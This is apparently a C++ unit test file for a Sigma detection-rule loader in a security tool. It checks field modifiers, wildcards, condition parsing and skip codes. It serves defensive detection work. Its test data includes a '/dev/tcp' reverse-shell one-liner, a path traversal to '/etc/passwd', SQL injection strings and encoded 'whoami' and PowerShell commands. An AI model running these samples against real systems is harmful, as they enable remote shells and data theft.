// Sigma loader: modifiers, wildcards, the condition parser (with error positions), logsource
// and field mapping, skip codes.
#include "riposte/detect/rules/sigma.h"

#include <gtest/gtest.h>

#include <deque>

#include "riposte/detect/rules/rule_engine.h"

namespace riposte::rules {
namespace {

// A webserver Sigma rule around one detection block.
std::string webRule(const std::string& detection, const std::string& extra = "") {
  return "title: t\nid: r1\nlevel: high\ntags: [attack.initial-access, attack.t1190, "
         "cve.2021-44228]\nlogsource: {category: webserver}\n" +
         extra + "detection:\n" + detection;
}

class SigmaTest : public ::testing::Test {
 protected:
  LoadResult load(const std::string& text, const SigmaOptions& o = {}) {
    return loadRuleText(text, "t.yml", &o);
  }

  // Loads one rule (which must load) into an engine.
  void use(const std::string& text, const SigmaOptions& o = {}) {
    auto r = load(text, o);
    ASSERT_FALSE(r.hasErrors()) << r.toJson();
    ASSERT_EQ(r.rules.size(), 1u) << r.toJson();
    engine_ = std::make_unique<RuleEngine>("rules", std::move(r.rules));
  }

  // Feeds an http event with the given fields; true when the rule fired.
  bool hit(std::vector<std::pair<std::string, std::string>> fields, std::string raw = "",
           EventKind kind = EventKind::kHttp) {
    Event e;
    e.setKind(kind);
    e.setTimestamp(Timestamp::fromSeconds(1000 + static_cast<int64_t>(keep_.size())));
    keep_.push_back(raw.empty() ? "raw line" : raw);
    e.setRaw(keep_.back());
    bool has_ip = false;
    for (auto& [k, v] : fields) {
      keep_.push_back(v);
      if (auto f = fieldFromName(k)) {
        e.set(*f, keep_.back());
        has_ip = has_ip || *f == Field::kSourceIp;
      } else {
        e.setExtra(k, v);
      }
    }
    if (!has_ip) e.set(Field::kSourceIp, "198.51.100.1");
    size_t before = findings_.size();
    engine_->onEvent(e, [this](Finding&& f) { findings_.push_back(std::move(f)); });
    return findings_.size() > before;
  }

  std::unique_ptr<RuleEngine> engine_;
  std::deque<std::string> keep_;
  std::vector<Finding> findings_;
};

TEST_F(SigmaTest, MetadataLevelTagsAndAction) {
  auto r = load(webRule("  sel: {cs-method: GET}\n  condition: sel\n"));
  ASSERT_EQ(r.rules.size(), 1u) << r.toJson();
  const Rule& rule = r.rules[0];
  EXPECT_EQ(rule.id, "r1");
  EXPECT_EQ(rule.name, "t");
  EXPECT_EQ(rule.format, "sigma");
  EXPECT_EQ(rule.severity, 7);  // high
  EXPECT_EQ(rule.action, "alert");
  EXPECT_EQ(rule.labels,
            (std::vector<std::string>{"attack.initial-access", "T1190", "CVE-2021-44228"}));
  ASSERT_EQ(rule.kinds.size(), 1u);
  EXPECT_EQ(rule.kinds[0], EventKind::kHttp);
  EXPECT_EQ(r.sigma.rules, 1u);
  EXPECT_EQ(r.sigma.loaded, 1u);
}

TEST_F(SigmaTest, PlainValuesAreCaseInsensitiveEqualityAndMapsAreAnd) {
  use(webRule("  sel:\n    cs-method: GET\n    sc-status: [200, 301]\n  condition: sel\n"));
  EXPECT_TRUE(hit({{"http.request.method", "get"}, {"http.response.status_code", "301"}}));
  EXPECT_FALSE(hit({{"http.request.method", "GET"}, {"http.response.status_code", "404"}}));
  EXPECT_FALSE(hit({{"http.request.method", "POST"}, {"http.response.status_code", "200"}}));
}

TEST_F(SigmaTest, ListOfMapsIsOr) {
  use(webRule("  sel:\n    - cs-method: PUT\n    - sc-status: 500\n  condition: sel\n"));
  EXPECT_TRUE(hit({{"http.request.method", "PUT"}}));
  EXPECT_TRUE(hit({{"http.response.status_code", "500"}}));
  EXPECT_FALSE(hit({{"http.request.method", "GET"}, {"http.response.status_code", "200"}}));
}

TEST_F(SigmaTest, ContainsStartsWithEndsWith) {
  use(webRule(
      "  a: {cs-uri-query|contains: 'etc/PASSWD'}\n  b: {cs-user-agent|startswith: 'curl/'}\n"
      "  c: {cs-referer|endswith: '.ru/'}\n  condition: 1 of them\n"));
  EXPECT_TRUE(hit({{"url.original", "/x?f=../../etc/passwd"}}));
  EXPECT_TRUE(hit({{"user_agent.original", "Curl/8.0"}}));
  EXPECT_FALSE(hit({{"user_agent.original", "my curl/8.0"}}));
  EXPECT_TRUE(hit({{"http.request.referrer", "http://x.RU/"}}));
  EXPECT_FALSE(hit({{"http.request.referrer", "http://x.ru/a"}}));
}

TEST_F(SigmaTest, CasedIsCaseSensitive) {
  use(webRule("  a: {cs-uri-query|contains|cased: 'Admin'}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"url.original", "/Admin/x"}}));
  EXPECT_FALSE(hit({{"url.original", "/admin/x"}}));
}

TEST_F(SigmaTest, AllModifierNeedsEveryValue) {
  use(webRule("  a:\n    cs-uri-query|contains|all: ['cmd=', 'exec']\n  condition: a\n"));
  EXPECT_TRUE(hit({{"url.original", "/a?cmd=exec"}}));
  EXPECT_FALSE(hit({{"url.original", "/a?cmd=ls"}}));
}

TEST_F(SigmaTest, WildcardsAndEscapes) {
  use(
      webRule("  a: {cs-uri-query: '/admin/*/conf?.php'}\n  b: {cs-user-agent: 'star\\*'}\n"
              "  c: {cs-referer: 'back\\\\*'}\n  condition: 1 of them\n"));
  EXPECT_TRUE(hit({{"url.original", "/admin/a/b/conf1.php"}}));
  EXPECT_FALSE(hit({{"url.original", "/admin/a/b/conf.php"}}));   // ? needs one character
  EXPECT_FALSE(hit({{"url.original", "/x/admin/a/conf1.php"}}));  // anchored at both ends
  EXPECT_TRUE(hit({{"user_agent.original", "star*"}}));           // \* is a plain star
  EXPECT_FALSE(hit({{"user_agent.original", "starry"}}));
  EXPECT_TRUE(hit({{"http.request.referrer", "back\\anything"}}));  // \\* = backslash + wildcard
  EXPECT_FALSE(hit({{"http.request.referrer", "backanything"}}));
}

TEST_F(SigmaTest, ContainsWithInnerWildcardBecomesUnanchoredRegex) {
  use(webRule("  a: {cs-uri-query|contains: '.ghostbin.co/paste/*/raw/'}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"url.original", "http://x.ghostbin.co/paste/abc/raw/1"}}));
  EXPECT_FALSE(hit({{"url.original", "http://x.ghostbin.co/paste/abc/view/1"}}));
}

TEST_F(SigmaTest, RegexWithFlags) {
  use(webRule("  a: {cs-user-agent|re: '^Mozilla/4\\.0 \\(compatible; MSIE 6'}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"user_agent.original", "Mozilla/4.0 (compatible; MSIE 6.0)"}}));
  EXPECT_FALSE(hit({{"user_agent.original", "mozilla/4.0 (compatible; msie 6.0)"}}));  // cased
  use(webRule("  a: {cs-user-agent|re|i: '^mozilla/4'}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"user_agent.original", "MOZILLA/4.0"}}));
  use(webRule("  a: {cs-user-agent|re|m: '^evil$'}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"user_agent.original", "good\nevil\nmore"}}));
  use(webRule("  a: {cs-user-agent|re: '^evil$'}\n  condition: a\n"));
  EXPECT_FALSE(hit({{"user_agent.original", "good\nevil\nmore"}}));
  use(webRule("  a: {cs-user-agent|re|s: 'a.b'}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"user_agent.original", "a\nb"}}));
  use(webRule("  a: {cs-user-agent|re: 'a.b'}\n  condition: a\n"));
  EXPECT_FALSE(hit({{"user_agent.original", "a\nb"}}));
}

TEST_F(SigmaTest, BadRegexIsAnErrorWithPosition) {
  auto r = load(webRule("  a: {cs-user-agent|re: '(unclosed'}\n  condition: a\n"));
  ASSERT_TRUE(r.hasErrors());
  EXPECT_EQ(r.diagnostics[0].code, "R004");
  EXPECT_EQ(r.diagnostics[0].line, 7);
  EXPECT_TRUE(r.rules.empty());
}

TEST_F(SigmaTest, Cidr) {
  use(webRule("  a: {c-ip|cidr: ['10.0.0.0/8', '2001:db8::/32']}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"source.ip", "10.1.2.3"}}));
  EXPECT_TRUE(hit({{"source.ip", "2001:db8::1"}}));
  EXPECT_FALSE(hit({{"source.ip", "192.0.2.1"}}));
}

TEST_F(SigmaTest, Base64AndBase64Offset) {
  // "whoami" in base64 at offsets 0..2 (as pySigma encodes it).
  use(webRule("  a: {cs-uri-query|base64offset|contains: 'whoami'}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"url.original", "/x?c=d2hvYW1p"}}));      // "whoami"
  EXPECT_TRUE(hit({{"url.original", "/x?c=eHdob2FtaQ=="}}));  // "xwhoami"
  EXPECT_TRUE(hit({{"url.original", "/x?c=eHl3aG9hbWk="}}));  // "xywhoami"
  EXPECT_FALSE(hit({{"url.original", "/x?c=whoami"}}));
  use(webRule("  a: {cs-uri-query|base64|contains: 'id;'}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"url.original", "/x?c=aWQ7"}}));
  EXPECT_FALSE(hit({{"url.original", "/x?c=id;"}}));
}

TEST_F(SigmaTest, WindashExpandsDashesAndSlashes) {
  use(webRule("  a: {cs-uri-query|windash|contains: ' -enc '}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"url.original", "powershell -enc x"}}));
  EXPECT_TRUE(hit({{"url.original", "powershell /enc x"}}));
  EXPECT_TRUE(hit({{"url.original",
                    "powershell \xE2\x80\x93"
                    "enc x"}}));  // en dash
  EXPECT_FALSE(hit({{"url.original", "powershell +enc x"}}));
}

TEST_F(SigmaTest, ExistsNullAndEmpty) {
  use(webRule("  a: {cs-method: POST, cs-referer: null}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"http.request.method", "POST"}}));
  EXPECT_FALSE(hit({{"http.request.method", "POST"}, {"http.request.referrer", "http://x/"}}));
  use(webRule("  a: {cs-referer|exists: true}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"http.request.referrer", "http://x/"}}));
  EXPECT_FALSE(hit({{"http.request.method", "GET"}}));
  use(webRule("  a: {cs-user-agent: ''}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"http.request.method", "GET"}}));
  EXPECT_FALSE(hit({{"user_agent.original", "x"}}));
}

TEST_F(SigmaTest, NumericComparisons) {
  use(webRule("  a: {sc-bytes|gte: 1000000, sc-status|lt: 300}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"http.response.body.bytes", "2000000"}, {"http.response.status_code", "200"}}));
  EXPECT_FALSE(hit({{"http.response.body.bytes", "999"}, {"http.response.status_code", "200"}}));
  EXPECT_FALSE(
      hit({{"http.response.body.bytes", "2000000"}, {"http.response.status_code", "404"}}));
  EXPECT_FALSE(hit({{"http.response.body.bytes", "lots"}, {"http.response.status_code", "200"}}));
}

TEST_F(SigmaTest, FieldRefComparesTwoFields) {
  use(webRule("  a: {cs-username|fieldref: cs-uri-query}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"user.name", "Bob"}, {"url.original", "bob"}}));
  EXPECT_FALSE(hit({{"user.name", "bob"}, {"url.original", "/bob"}}));
  EXPECT_FALSE(hit({{"url.original", "x"}}));  // a missing field never equals
  use(webRule("  a: {cs-uri-query|fieldref|endswith: cs-username}\n  condition: a\n"));
  EXPECT_TRUE(hit({{"user.name", "bob"}, {"url.original", "/home/bob"}}));
  EXPECT_FALSE(hit({{"user.name", "bob"}, {"url.original", "/home/alice"}}));
}

TEST_F(SigmaTest, ExpandUsesConfiguredPlaceholdersOrSkips) {
  const std::string text =
      webRule("  a: {cs-username|expand: '%Administrators%'}\n  condition: a\n");
  auto skipped = load(text);
  EXPECT_FALSE(skipped.hasErrors());
  EXPECT_TRUE(skipped.rules.empty());
  ASSERT_EQ(skipped.diagnostics.size(), 1u);
  EXPECT_EQ(skipped.diagnostics[0].code, "S006");
  EXPECT_EQ(skipped.sigma.skipped["S006"]["placeholder %Administrators%"], 1u);
  SigmaOptions o;
  o.placeholders["Administrators"] = {"root", "admin"};
  use(text, o);
  EXPECT_TRUE(hit({{"user.name", "admin"}}));
  EXPECT_FALSE(hit({{"user.name", "guest"}}));
}

TEST_F(SigmaTest, KeywordsSearchTheRawLine) {
  use(webRule("  keywords: ['UNION SELECT', 'order by ']\n  condition: keywords\n"));
  EXPECT_TRUE(hit({}, "GET /?q=1 union select 2"));
  EXPECT_FALSE(hit({}, "GET /?q=1"));
  use(webRule("  keywords:\n    '|all': ['bash -c', '/dev/tcp/']\n  condition: keywords\n"));
  EXPECT_TRUE(hit({}, "bash -c 'sh >& /dev/tcp/1.2.3.4/4444'"));
  EXPECT_FALSE(hit({}, "bash -c ls"));
}

TEST_F(SigmaTest, NeqNegates) {
  use(webRule("  a: {cs-method: GET}\n  b: {sc-status|neq: 200}\n  condition: a and b\n"));
  EXPECT_TRUE(hit({{"http.request.method", "GET"}, {"http.response.status_code", "500"}}));
  EXPECT_FALSE(hit({{"http.request.method", "GET"}, {"http.response.status_code", "200"}}));
}

// ---- the condition expression ----

std::vector<std::pair<std::string, Condition>> ids(const std::vector<std::string>& names) {
  std::vector<std::pair<std::string, Condition>> out;
  for (const auto& n : names) {
    Predicate p;
    p.field = FieldRef::of("message");
    p.op = Op::kContains;
    p.values = {n};
    out.emplace_back(n, Condition::predicate(std::move(p)));
  }
  return out;
}

bool evalOn(const Condition& c, const std::string& msg) {
  Event e;
  e.set(Field::kMessage, msg);
  return c.eval(e);
}

TEST(SigmaCondition, PrecedenceNotAndOr) {
  const auto v = ids({"a", "b", "c"});
  // or < and < not: "a or b and not c" = a or (b and (not c))
  auto c = parseSigmaCondition("a or b and not c", v);
  ASSERT_TRUE(c.isOk()) << c.status().toString();
  EXPECT_TRUE(evalOn(*c, "a c"));
  EXPECT_TRUE(evalOn(*c, "b"));
  EXPECT_FALSE(evalOn(*c, "b c"));
  auto p = parseSigmaCondition("(a or b) and not c", v);
  ASSERT_TRUE(p.isOk());
  EXPECT_FALSE(evalOn(*p, "a c"));
  EXPECT_TRUE(evalOn(*p, "a"));
}

TEST(SigmaCondition, OneOfAllOfPatternsAndThem) {
  const auto v = ids({"sel_x", "sel_y", "filter_z", "_hidden"});
  auto one = parseSigmaCondition("1 of sel_* and not 1 of filter*", v);
  ASSERT_TRUE(one.isOk());
  EXPECT_TRUE(evalOn(*one, "sel_y"));
  EXPECT_FALSE(evalOn(*one, "sel_y filter_z"));
  auto all = parseSigmaCondition("all of sel_*", v);
  ASSERT_TRUE(all.isOk());
  EXPECT_FALSE(evalOn(*all, "sel_x"));
  EXPECT_TRUE(evalOn(*all, "sel_x sel_y"));
  auto them = parseSigmaCondition("all of them", v);  // _hidden is not part of them
  ASSERT_TRUE(them.isOk());
  EXPECT_TRUE(evalOn(*them, "sel_x sel_y filter_z"));
  auto any = parseSigmaCondition("1 of them", v);
  ASSERT_TRUE(any.isOk());
  EXPECT_FALSE(evalOn(*any, "_hidden"));
  EXPECT_TRUE(evalOn(*any, "filter_z"));
}

TEST(SigmaCondition, ErrorsNameTheColumn) {
  const auto v = ids({"a", "b"});
  struct Case {
    const char* expr;
    size_t column;
    const char* words;
  } cases[] = {
      {"a and (b or a", 14, "missing ')'"},
      {"a and", 6, "expression ends"},
      {"a b", 3, "unexpected 'b'"},
      {"a and c", 7, "unknown search identifier 'c'"},
      {"1 of x*", 6, "no search identifier matches 'x*'"},
      {"a or or b", 6, "unexpected 'or'"},
      {"all sel", 1, "must be followed by 'of'"},
      {"a)", 2, "unexpected ')'"},
      {"a | count() > 5", 3, "aggregation"},
  };
  for (const auto& c : cases) {
    size_t col = 0;
    auto r = parseSigmaCondition(c.expr, v, &col);
    ASSERT_FALSE(r.isOk()) << c.expr;
    EXPECT_EQ(col, c.column) << c.expr << ": " << r.status().message();
    EXPECT_NE(r.status().message().find(c.words), std::string::npos)
        << c.expr << ": " << r.status().message();
  }
}

TEST_F(SigmaTest, ConditionErrorsAreFileErrorsWithLineAndColumn) {
  auto r = load(webRule("  sel: {cs-method: GET}\n  condition: sel and (filter\n"));
  ASSERT_TRUE(r.hasErrors());
  EXPECT_EQ(r.diagnostics[0].code, "S005");  // unknown identifier 'filter'
  EXPECT_EQ(r.diagnostics[0].line, 8);
  EXPECT_EQ(r.diagnostics[0].column, 3 + 11 + 9);  // "  condition: " + "sel and ("
  EXPECT_EQ(r.files_rejected.size(), 1u);
  auto s = load(webRule("  sel: {cs-method: GET}\n  condition: sel and\n"));
  ASSERT_TRUE(s.hasErrors());
  EXPECT_EQ(s.diagnostics[0].code, "S004");
}

TEST_F(SigmaTest, ConditionListIsOr) {
  use(webRule("  a: {cs-method: PUT}\n  b: {cs-method: DELETE}\n  condition: [a, b]\n"));
  EXPECT_TRUE(hit({{"http.request.method", "DELETE"}}));
  EXPECT_FALSE(hit({{"http.request.method", "GET"}}));
}

// ---- unsupported features: warning, rule skipped, rest loads ----

TEST_F(SigmaTest, UnsupportedFeaturesSkipTheRuleWithAStableCode) {
  struct Case {
    std::string text;
    const char* code;
    const char* feature;
  } cases[] = {
      {webRule("  a: {cs-uri-query|utf16le|contains: x}\n  condition: a\n"), "S001",
       "modifier utf16le"},
      {webRule("  a: {cs-cookie|contains: x}\n  condition: a\n"), "S002", "field cs-cookie"},
      {"title: t\nid: w\nlogsource: {product: windows, category: process_creation}\n"
       "detection:\n  a: {Image|endswith: '\\cmd.exe'}\n  condition: a\n",
       "S003", "logsource product=windows category=process_creation"},
      {webRule("  a: {cs-method: GET}\n  timeframe: 5m\n  condition: a | count() > 5\n"), "S009",
       "timeframe"},
      {webRule("  a: {cs-method: GET}\n  condition: a | count() > 5\n"), "S009",
       "aggregation in condition"},
  };
  for (const auto& c : cases) {
    auto r = load(c.text);
    EXPECT_FALSE(r.hasErrors()) << r.toJson();
    EXPECT_TRUE(r.rules.empty()) << c.code;
    ASSERT_EQ(r.diagnostics.size(), 1u) << r.toJson();
    EXPECT_EQ(r.diagnostics[0].code, c.code);
    EXPECT_EQ(r.diagnostics[0].severity, RuleDiagnostic::Severity::kWarning);
    EXPECT_EQ(r.sigma.skipped[c.code][c.feature], 1u) << r.toJson();
    EXPECT_EQ(r.files_loaded.size(), 1u);
  }
}

TEST_F(SigmaTest, PassthroughReadsUnknownLogsourcesAsGenericJson) {
  SigmaOptions o;
  o.passthrough = true;
  use("title: t\nid: w\nlogsource: {product: windows, category: process_creation}\n"
      "detection:\n  a: {Image|endswith: '\\cmd.exe'}\n  condition: a\n",
      o);
  EXPECT_TRUE(hit({{"Image", "C:\\Windows\\System32\\CMD.EXE"}}, "", EventKind::kGeneric));
  EXPECT_FALSE(hit({{"Image", "C:\\Windows\\System32\\calc.exe"}}, "", EventKind::kGeneric));
}

TEST_F(SigmaTest, FieldMappingOverride) {
  SigmaOptions o;
  o.fields["cs-cookie"] = "http.request.cookie";
  use(webRule("  a: {cs-cookie|contains: 'admin=1'}\n  condition: a\n"), o);
  EXPECT_TRUE(hit({{"http.request.cookie", "x=1; admin=1"}}));
}

TEST_F(SigmaTest, LogsourceFiltersOnTheDataset) {
  use("title: t\nid: s\nlogsource: {product: linux, service: sshd}\n"
      "detection:\n  keywords: ['Corrupted MAC on input']\n  condition: keywords\n");
  EXPECT_TRUE(hit({{"event.dataset", "sshd"}, {"host.name", "h1"}},
                  "sshd[1]: ssh_dispatch_run_fatal: Corrupted MAC on input.", EventKind::kSsh));
  EXPECT_FALSE(hit({{"event.dataset", "zeek.ssh"}}, "Corrupted MAC on input", EventKind::kSsh));
  EXPECT_FALSE(hit({{"event.dataset", "sshd"}}, "Corrupted MAC on input", EventKind::kHttp));
}

TEST_F(SigmaTest, FindingFallsBackToTheHostWithoutASourceAddress) {
  use("title: t\nid: s\nlogsource: {product: linux, service: sshd}\n"
      "detection:\n  keywords: ['error in libcrypto']\n  condition: keywords\n");
  Event e;
  e.setKind(EventKind::kSsh);
  e.setRaw("sshd[1]: error in libcrypto");
  e.set(Field::kEventDataset, "sshd");
  e.set(Field::kHostName, "web1");
  engine_->onEvent(e, [this](Finding&& f) { findings_.push_back(std::move(f)); });
  ASSERT_EQ(findings_.size(), 1u);
  EXPECT_EQ(findings_[0].entity.type, TargetType::kHost);
  EXPECT_EQ(findings_[0].entity.value, "web1");
}

TEST_F(SigmaTest, RiposteAndSigmaFilesLoadTogether) {
  // looksLikeSigma routes by content; a Riposte file is unaffected.
  EXPECT_TRUE(looksLikeSigma("title: x\ndetection:\n  a: b\n"));
  EXPECT_FALSE(looksLikeSigma("rules:\n  - id: x\n    match: {detection: 1}\n"));
}

}  // namespace
}  // namespace riposte::rules
